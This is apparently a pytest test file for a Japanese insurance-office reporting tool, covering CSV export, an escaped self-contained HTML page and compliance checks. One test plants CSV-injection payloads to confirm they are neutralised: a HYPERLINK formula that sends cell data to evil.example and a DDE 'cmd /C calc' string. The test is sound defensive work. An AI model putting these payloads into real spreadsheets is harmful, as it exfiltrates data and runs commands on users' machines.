"""`cyberdesk office report`: the CSV core systems import, the self-contained web page, and the
compliance exceptions, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from conftest import run_cli
from office_helpers import finalized, held_interviews

from cyberdesk.office.report import CSV_COLUMNS, EXCEPTIONS, exceptions_of
from cyberdesk.office.store import OfficeStore


@pytest.fixture
def held(office_url, tmp_path):
    """Head office holding three interviews (one with a planted exception, one revised)."""
    return held_interviews(office_url, tmp_path)


def test_exceptions_name_every_missing_part():
    complete = finalized("x", "株式会社X", date(2026, 11, 1))
    assert exceptions_of(complete) == []

    def strip(iv) -> None:
        iv.initial_intent.liability_events, iv.initial_intent.expense_items = [], []
        iv.initial_intent.other_wishes = ""
        iv.proposal_reason = ""
        iv.confirmation.disclosure_handed_over = iv.confirmation.disclosure_explained = False
        iv.confirmation.customer_confirmed = False
    assert exceptions_of(finalized("y", "株式会社Y", date(2026, 11, 1), strip)) == list(EXCEPTIONS)


@pytest.mark.slow
def test_csv_has_the_documented_columns_one_row_per_current_interview(held, tmp_path):
    target = tmp_path / "out.csv"
    done = run_cli("office", "report", "--db", held["url"], "--csv", str(target))
    assert done.returncode == 0, done.stderr
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0].keys()) == CSV_COLUMNS
    by_lineage = {row["lineage_id"]: row for row in rows}
    assert len(rows) == 3 and by_lineage[held["third"].lineage_id]["revision"] == "2"
    assert by_lineage[held["third"].lineage_id]["revision_reason"] == "補償内容の見直し"
    assert by_lineage[held["gap"].lineage_id]["compliance_exceptions"] == "disclosure_not_explained"
    assert by_lineage[held["gap"].lineage_id]["company_name"] == "株式会社<b>ベータ</b>"
    assert ("最新の面談 3件、改訂版 1件、到着待ち 0件、コンプライアンス上の不備 1件、"
            "未確定の改訂 0件") in done.stdout
    assert f"不備 {held['gap'].document_number}：重要事項説明書の説明がありません" in done.stdout


@pytest.mark.slow
def test_html_is_one_self_contained_page_with_charts(held, tmp_path):
    target = tmp_path / "report.html"
    done = run_cli("office", "report", "--db", held["url"], "--html", str(target))
    assert done.returncode == 0, done.stderr
    page = target.read_text(encoding="utf-8")
    assert page.count("<svg") == 4
    outside = re.findall(r"(?:src|href)\s*=|<script|<link|url\(|@import", page)
    assert outside == []  # nothing loaded from anywhere else
    assert set(re.findall(r"https?://[^\"' ]+", page)) == {"http://www.w3.org/2000/svg"}
    assert "株式会社&lt;b&gt;ベータ&lt;/b&gt;" in page and "<b>ベータ" not in page
    assert held["gap"].document_number in page and "重要事項説明書の説明がありません" in page
    assert "補償内容の見直し" in page  # the revision and its reason


@pytest.mark.slow
def test_since_keeps_the_later_interviews(held):
    with OfficeStore.open(held["url"]) as office:
        from cyberdesk.office.report import build as build_report

        later = build_report(office, date(2026, 11, 1))
    assert {c.row["lineage_id"] for c in later.current} == {
        held["gap"].lineage_id, held["third"].lineage_id}
    bad = run_cli("office", "report", "--db", held["url"], "--since", "11/1")
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1


def test_csv_cells_that_excel_would_run_are_made_inert(office_url, tmp_path):
    """OWASP's CSV injection: a company, kana, agent or e-mail starting with = + - @ tab or CR
    arrives in Excel as text, never as a formula."""
    from office_helpers import take_in

    from cyberdesk.office import report

    def hostile(iv) -> None:
        iv.customer.company_name = '=HYPERLINK("http://evil.example/?"&A1,"開く")'
        iv.customer.company_kana = "+cmd|' /C calc'!A0"
        iv.agent.agent_name = "@SUM(1+1)"
        iv.agent.email = "-2+3@example.jp"
        iv.revision_reason = "\t=1+1"

    take_in(office_url, tmp_path, [finalized("h", "x", date(2026, 11, 3), hostile)])
    target = tmp_path / "out.csv"
    with OfficeStore.open(office_url) as office:
        report.write_csv(report.build(office), target)
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\r\n") == 2
    row = next(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert row["company_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"開く")'
    assert row["company_kana"] == "'+cmd|' /C calc'!A0"
    assert row["agent_name"] == "'@SUM(1+1)" and row["agent_email"] == "'-2+3@example.jp"
    assert row["revision_reason"] == "'\t=1+1"
    line = data.decode("utf-8-sig").split("\r\n")[1]
    assert line.startswith('"') and line.endswith('"')  # every field quoted


def test_csv_has_quote_premium_period_review_and_jst(held, tmp_path):
    from cyberdesk.office import report
    from cyberdesk.office.review import RETURNED, decide

    with OfficeStore.open(held["url"]) as office:
        decide(office, held["gap"].id, RETURNED, "説明欄が空")
        rows = {r["interview_id"]: r for r in report.csv_rows(report.build(office))}
    gap, first = rows[held["gap"].id], rows[held["first"].id]
    quote = held["gap"].quote
    assert gap["quote_number"] == quote.number and gap["annual_premium_yen"] == quote.annual_premium
    assert (gap["period_start"], gap["period_end"]) == (quote.period_start.isoformat(),
                                                        quote.period_end.isoformat())
    assert (gap["review_state"], gap["review_note"]) == ("returned", "説明欄が空")
    assert gap["reviewed_at"].endswith("+09:00") and gap["received_at"].endswith("+09:00")
    assert (first["imported_from_file"], gap["imported_from_file"]) == ("0", "1")
    assert first["review_state"] == "unreviewed"


def test_report_lists_reviews_quarantine_imports_and_rates_in_a_fixed_order(held, tmp_path):
    from cyberdesk.office import html, report

    quarantine = tmp_path / "quarantine"
    quarantine.mkdir()
    (quarantine / "forged.zip.reason.txt").write_text(
        "/share/sync/forged.zip\nunknown_sender: signed by a key head office has not registered\n",
        encoding="utf-8")
    with OfficeStore.open(held["url"]) as office:
        data = report.build(office, quarantine=quarantine)
    assert [q.name for q in data.quarantined] == ["forged.zip"]
    assert data.quarantined[0].reasons[0].startswith("unknown_sender")
    assert list(data.review_states) == ["unreviewed", "approved", "returned", "on_hold"]
    assert data.review_states["unreviewed"] == 3 and len(data.awaiting) == 3
    assert {c.row["id"] for c in data.imported} == {held["gap"].id, held["second"].id}
    assert list(data.by_month) == ["2026-10", "2026-11"]  # time order, not by count
    assert data.agent_rates == [("A1234-567", held["first"].agent.agent_name, 3, 1)]
    assert data.agency_month == {"A1234-567": {"2026-10": 1, "2026-11": 2}}
    page = html.page(data)
    assert "forged.zip" in page and "unknown_sender" in page and "33%" in page
    assert "JST" in page


def test_chart_labels_are_never_cut_off():
    from collections import Counter

    from cyberdesk.office.html import bar_chart, text_width

    long = "⑨ 不動産業（建物の賃貸・管理・仲介）・物品賃貸業（リース業を含む）"
    svg = bar_chart("業務区分", Counter({long: 2, "① 製造業": 5}))
    width = int(re.search(r'<svg[^>]* width="(\d+)"', svg).group(1))
    anchor = int(re.search(r'<text x="(\d+)"[^>]*text-anchor="end"', svg).group(1))
    assert anchor >= text_width(long) and width > anchor
    assert svg.index(long) < svg.index("① 製造業")  # the order given, not by count
